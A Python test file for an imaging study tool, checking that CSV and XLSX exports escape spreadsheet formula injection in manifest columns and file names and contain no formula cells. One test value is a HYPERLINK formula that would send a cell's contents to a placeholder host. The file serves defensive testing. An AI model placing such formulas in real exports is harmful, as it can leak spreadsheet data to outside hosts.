"""All tables in one XLSX file."""

from __future__ import annotations

import csv
from pathlib import Path

import fake_wing
import openpyxl
import pytest

from imaging.study.batch import BatchOptions, run_batch
from imaging.study.store import open_for_reading
from imaging.study.tables import unguarded
from imaging.study.workbook import write_workbook

#: Columns of a manifest that a spreadsheet would run, or that no sheet has room for.
HOSTILE = ('=HYPERLINK("http://x/"&A1)', "@note", "bell\a")


@pytest.fixture
def out(tmp_path: Path) -> Path:
    for seed, name in enumerate(("=a.png", "b.png")):
        fake_wing.make_photo(tmp_path / "in" / name, seed=seed)
    manifest = tmp_path / "manifest.csv"
    with manifest.open("w", newline="") as file:
        csv.writer(file).writerows([("photo", *HOSTILE), ("=a.png", 1, 2, 3)])
    run_batch(
        [tmp_path / "in"],
        tmp_path / "out",
        BatchOptions(wing=fake_wing.TARGET, engine="serial", manifest=manifest),
    )
    return tmp_path / "out"


def test_a_column_of_the_manifest_is_no_formula_and_keeps_its_name(out: Path) -> None:
    with (out / "results.csv").open(newline="") as file:
        header = next(csv.reader(file))
    assert header[-3:] == [f"'{HOSTILE[0]}", f"'{HOSTILE[1]}", HOSTILE[2]]
    assert tuple(map(unguarded, header[-3:])) == HOSTILE
    with open_for_reading(out) as ledger:
        path = write_workbook(out / "dermetry.xlsx", ledger, fake_wing.make_wing())
    book = openpyxl.load_workbook(path)
    cells = book["results"][1]
    assert [cell.value for cell in cells[-3:]] == [*header[-3:-1], "bell\N{REPLACEMENT CHARACTER}"]
    assert {cell.data_type for cell in cells} == {"s"}
    book.close()


def test_the_workbook_holds_every_table_and_no_formula(out: Path) -> None:
    with open_for_reading(out) as ledger:
        path = write_workbook(out / "dermetry.xlsx", ledger, fake_wing.make_wing())
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["results", "failures", "hairs", "units", "cutoffs"]
    results = list(book["results"].iter_rows(values_only=True))
    assert results[1][0] == "'=a.png"
    assert isinstance(results[1][results[0].index("hair_count")], int)
    assert results[1][results[0].index("hair_density_per_cm2")] is None
    assert "path_px" not in next(book["hairs"].iter_rows(values_only=True))
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    book.close()
